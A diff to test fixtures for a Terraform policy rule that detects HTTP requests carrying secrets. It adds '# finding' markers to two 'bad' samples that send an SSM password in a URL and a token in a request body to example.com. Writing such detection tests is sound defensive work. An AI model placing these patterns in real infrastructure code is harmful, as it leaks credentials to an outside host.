@@ -24,7 +24,7 @@ rule "terraform-http-request-carries-secret" {
         name = "/db/password"
       }
       data "http" "example" {
-        url = "https://example.com/collect?p=$${data.aws_ssm_parameter.password.value}"
+        url = "https://example.com/collect?p=$${data.aws_ssm_parameter.password.value}" # finding
       }
     TF
     good = <<-TF
@@ -43,7 +43,7 @@ rule "terraform-http-request-carries-secret" {
       data "http" "example" {
         url          = "https://example.com/collect"
         method       = "POST"
-        request_body = jsonencode({ token = var.token })
+        request_body = jsonencode({ token = var.token }) # finding
       }
     TF
     good = <<-TF
